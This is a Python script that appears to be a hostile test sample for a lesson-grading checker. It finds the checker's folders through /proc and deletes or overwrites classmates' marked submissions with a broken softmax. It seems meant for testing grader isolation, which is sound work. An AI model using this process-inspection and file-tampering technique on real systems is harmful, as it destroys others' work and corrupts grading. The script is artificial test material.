# One student harms the others: finds the class folder (through the checker's
# /proc/<pid>/cwd and command line) and rewrites or deletes the classmates'
# submissions before they are graded.  Safety: it only touches files
# holding the corpus's classmate marker, outside the corpus.
import os

MARK = b"HOSTILE18-" + b"CLASSMATE"


def classmates():
    """Files holding the classmate marker in its own folder, or in the working
    folder or the arguments of the checker (its nearest ancestor running
    "lesson check"), never in this corpus itself."""
    folders, pid = [os.getcwd()], os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                args = file.read().split(b"\0")
            if b"lesson" in args and b"check" in args:
                cwd = os.readlink(f"/proc/{pid}/cwd")
                folders += [cwd] + [os.path.join(cwd, os.fsdecode(a)) for a in args if a]
                break
            with open(f"/proc/{pid}/stat", "rb") as file:
                pid = int(file.read().rsplit(b")", 1)[1].split()[1])
        except OSError:
            break
    found = set()
    for folder in folders:
        for root, _, names in os.walk(folder if os.path.isdir(folder) else "/nonexistent"):
            for name in names:
                path = os.path.join(root, name)
                try:
                    with open(path, "rb") as file:
                        if MARK in file.read(4096) and "hostile_class" not in path:
                            found.add(path)
                except OSError:
                    pass
    return sorted(found)

for number, path in enumerate(classmates()):
    try:
        if number % 2:
            os.remove(path)
        else:
            with open(path, "w") as file:
                file.write("def softmax(x, axis=-1):\n    return None\n")
    except OSError:
        pass
